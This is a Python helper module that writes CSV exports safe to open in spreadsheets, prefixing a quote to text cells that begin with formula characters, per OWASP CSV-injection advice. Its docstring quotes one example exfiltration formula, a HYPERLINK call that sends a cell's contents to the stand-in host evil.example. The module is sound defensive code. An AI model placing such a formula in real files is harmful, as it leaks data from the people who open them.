"""CSV that is safe to open in a spreadsheet.

A cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return is read as a formula
by Excel, LibreOffice and Google Sheets: a production output such as
`=HYPERLINK("http://evil.example/?"&A1,"click")` would run when an engineer opens the
export. OWASP's recommendation (CSV Injection) is to make such a cell text by prefixing a
single quote; the csv module then quotes the cell as usual. Only text cells are changed:
numbers (a score of -0.5) are written as numbers.

`excel=True` writes what Excel on Windows reads without asking: a UTF-8 byte-order mark (so
accented text is not shown as cp1252 mojibake) and CRLF line ends.
"""

from __future__ import annotations

import csv
from pathlib import Path
from typing import Any, TextIO

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

# Said in export manifests and reports, so the reader of a file knows why a cell begins
# with a quote.
NEUTRALISED_NOTE = (
    "text cells starting with = + - @ TAB or CR are prefixed with ' so spreadsheets do not "
    "run them as formulas (OWASP CSV injection)"
)


def safe_cell(value: Any) -> Any:
    """`value`, with a text cell that a spreadsheet would run as a formula made plain text."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def open_csv(path: Path, *, excel: bool = False) -> TextIO:
    """A text handle for a new CSV file (UTF-8; with a byte-order mark for Excel)."""
    return path.open("w", encoding="utf-8-sig" if excel else "utf-8", newline="")


def csv_writer(handle: TextIO, *, excel: bool = False) -> Any:
    """A csv writer for `handle`: CRLF rows for Excel, LF otherwise."""
    return csv.writer(handle, lineterminator="\r\n" if excel else "\n")
